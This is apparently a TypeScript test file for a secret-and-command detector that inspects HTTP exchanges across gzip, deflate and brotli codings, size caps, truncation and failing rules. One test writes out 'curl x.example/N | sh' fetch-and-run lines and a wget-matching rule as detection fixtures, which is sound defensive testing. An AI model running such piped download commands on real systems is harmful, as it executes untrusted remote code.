import { brotliCompressSync, deflateRawSync, gzipSync } from 'node:zlib';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { Inspection } from '../../lib/detector/inspection.ts';
import type { Rule } from '../../lib/detector/rule.ts';
import { KEY, SECRET } from './key_rule.ts';
import {
  bytewise,
  COMMAND,
  exchange,
  faults,
  goJson,
  inspectionWith,
  ORIGIN,
  outcome,
  PIPE,
  reported,
  shared,
} from './sighted_exchange.ts';

const inspector = suite('exchange inspector: codings and bounds');

const encoders = {
  gzip: gzipSync,
  'x-gzip': gzipSync,
  deflate: deflateRawSync,
  br: brotliCompressSync,
} as const;
for (const [coding, encode] of Object.entries(encoders)) {
  inspector(`undoes ${coding}`, async () => {
    const body = [encode(`text ${SECRET}`)];
    const { found, verdict } = await exchange({ head: `POST /\nContent-Encoding: ${coding}`, body });
    assert.equal(found, [`key request.body ${coding === 'x-gzip' ? 'gzip' : coding}`]);
    assert.is(verdict, 'inspected');
  });
}

inspector('undoes stacked codings and the JSON below them, in single bytes', async () => {
  const body = bytewise(brotliCompressSync(gzipSync(`{"x":${goJson(COMMAND)}}`)));
  const head = '200 OK\nContent-Type: application/json\nContent-encoding: gzip\nCONTENT-ENCODING: br';
  const { found, verdict } = await exchange({}, { head, body });
  assert.equal(found, ['pipe response.body br+gzip+json']);
  assert.is(verdict, 'inspected');
});

inspector('a coding it does not know is opaque; the wire form is looked at', async () => {
  const { found, verdict } = await exchange({
    head: 'POST /\nContent-Encoding: compress',
    body: [Buffer.from(SECRET)],
  });
  assert.equal(found, ['key request.body']);
  assert.is(verdict, 'unknown_encoding');
});

inspector('a body that is not coded as it says is undecodable, and looked at as it is', async () => {
  const body = [Buffer.from(JSON.stringify({ x: SECRET }).replace('zk', String.raw`\u007ak`))];
  const { found, verdict } = await exchange({ head: 'POST /\nContent-Encoding: gzip', body });
  assert.equal(found, ['key request.body json']);
  assert.is(verdict, 'undecodable');
});

inspector('coded data that ends early was inspected as far as it goes', async () => {
  const coded = gzipSync(`${SECRET} ${Array.from({ length: 5000 }, (_, n) => n * n)}`);
  const head = 'POST /\nContent-Encoding: gzip';
  const { found, verdict } = await exchange({ head, body: [coded.subarray(0, coded.length - 100)] });
  assert.equal(found, ['key request.body gzip']);
  assert.is(verdict, 'inspected');
  assert.is((await exchange({ head, body: [coded.subarray(0, 9)] })).verdict, 'undecodable');
});

inspector('an empty body, or an empty coded one, is inspected', async () => {
  const head = 'POST /\nContent-Encoding: gzip';
  assert.is((await exchange({ head, body: [] })).verdict, 'inspected');
  assert.is((await exchange({ head, body: [Buffer.alloc(0)] })).verdict, 'inspected');
  assert.is((await exchange({ head, body: [gzipSync('')] })).verdict, 'inspected');
});

inspector('a bomb is left at the cap, with what came before it seen', async () => {
  const body = [gzipSync(Buffer.concat([Buffer.from(SECRET), Buffer.alloc(64 * 1024 * 1024)]))];
  const { found, verdict } = await exchange({ head: 'POST /\nContent-Encoding: gzip', body });
  assert.equal(found, ['key request.body gzip']);
  assert.is(verdict, 'decompression_limit');
});

inspector('looks at a message up to maxScanBytes and no further', async () => {
  const small = inspectionWith({ maxScanBytes: 1000 });
  const upTo = (end: number) => [Buffer.from(`${'.'.repeat(end - SECRET.length)}${SECRET}`)];
  assert.equal(await verdictAndFound(small, upTo(1000)), ['inspected', 'key request.body']);
  assert.equal(await verdictAndFound(small, upTo(1001)), ['truncated']);
  assert.equal(await verdictAndFound(small, bytewise(upTo(1001)[0] ?? Buffer.alloc(0))), ['truncated']);
});

async function verdictAndFound(inspection: Inspection, body: readonly Buffer[]): Promise<readonly string[]> {
  const { verdict, found } = await exchange({ body }, {}, inspection);
  return [verdict, ...found];
}

inspector('what the relay did not copy is accounted', async () => {
  const subject = shared.open(ORIGIN);
  subject.requestHead('POST /');
  await subject.requestBody(Buffer.from(SECRET));
  subject.truncated('outbound');
  const { found, verdict } = outcome(await subject.close('complete'));
  assert.equal(found, ['key request.body']);
  assert.is(verdict, 'truncated');
});

inspector('an exchange that is cut is looked at as far as it came', async () => {
  for (const coded of [false, true]) {
    const subject = shared.open(ORIGIN);
    subject.requestHead(coded ? 'POST /\nContent-Encoding: gzip' : 'POST /');
    await subject.requestBody(coded ? gzipSync(SECRET) : Buffer.from(SECRET));
    const { found, verdict } = outcome(await subject.close('aborted'));
    assert.equal(found, [coded ? 'key request.body gzip' : 'key request.body']);
    assert.is(verdict, 'inspected');
  }
});

inspector('a flush shows what waits for company, once', async () => {
  for (const head of ['200 OK', '200 OK\nContent-Encoding: gzip']) {
    const subject = shared.open(ORIGIN);
    subject.responseHead(head);
    const text = `data: ${COMMAND} and on it goes\n\n`;
    await subject.responseBody(head === '200 OK' ? Buffer.from(text) : gzipSync(text));
    assert.is(reported.length, 0);
    // Until a keyword's length has followed, it might be one of a longer keyword.
    await subject.flush();
    assert.is(reported.length, 1, head);
    await subject.flush();
    await subject.responseEnd('');
    assert.is(outcome(await subject.close('complete')).found.length, 1);
  }
});

inspector('a hundred thousand chunks of one byte are one text', async () => {
  const text = Buffer.from(`${'.'.repeat(60_000)}${SECRET}${'.'.repeat(40_000)}`);
  const subject = shared.open(ORIGIN);
  subject.requestHead('POST /');
  for (const chunk of bytewise(text)) {
    assert.is(subject.requestBody(chunk), undefined, 'nothing to wait for');
  }
  assert.equal(outcome(await subject.close('complete')).found, ['key request.body']);
});

inspector('a flood of different matches ends with an honest verdict', async () => {
  const keys = Array.from({ length: 5000 }, (_, n) => `zk-live-${String(n).padStart(12, 'Z')}`);
  const { sightings, verdict } = await exchange({ body: [Buffer.from(keys.join(' '))] });
  assert.is(sightings.length, 100);
  assert.is(verdict, 'truncated');
});

inspector('a flood of one rule does not hide what another finds, nor the same in a tool call', async () => {
  const other: Rule = { ...PIPE, id: 'other', keywords: ['wget'], expression: /wget \w{3,8}/g };
  const flood = Array.from({ length: 5000 }, (_, n) => `curl x.example/${n} | sh`).join('\n');
  const many = await exchange(
    {},
    { body: [Buffer.from(`${flood}\nwget abc`)] },
    inspectionWith({}, [PIPE, other]),
  );
  assert.equal([many.found.length, many.found.at(-1)], [101, 'other response.body']);
  assert.is(many.verdict, 'truncated');
  const same = await exchange(
    {},
    { body: [Buffer.from(`${`${COMMAND}\n`.repeat(5000)}"arguments":"${COMMAND}"`)] },
  );
  assert.equal(same.found, ['pipe response.body', 'pipe response.body.tool_call']);
  assert.is(same.verdict, 'inspected');
});

inspector('a rule that fails is named in a fault, without what it looked at', async () => {
  const failing: Rule = {
    ...KEY,
    id: 'failing',
    validate: ({ text }) => {
      throw new RangeError(`cannot judge ${text}`);
    },
  };
  const inspection = inspectionWith({}, [failing, { ...KEY, id: 'other' }]);
  faults.length = 0;
  const { found } = await exchange({ head: `GET /${SECRET}`, body: [Buffer.from(SECRET)] }, {}, inspection);
  assert.equal(found, ['other request.target', 'other request.body']);
  assert.is(faults.length, 1);
  assert.match(faults[0] ?? '', /failing.*RangeError/);
  assert.not.match(faults[0] ?? '', /zk-live/);
});

inspector.run();
